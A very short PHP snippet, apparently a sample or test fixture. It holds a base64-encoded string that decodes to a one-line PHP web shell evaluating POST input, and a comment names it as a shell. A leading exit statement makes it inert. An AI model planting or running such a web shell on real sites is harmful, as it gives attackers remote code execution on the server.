<?php exit;
// the encoded text is the start of a one-line shell
$x = base64_decode('QGV2YWwoJF9QT1NUW2tdKTs=');
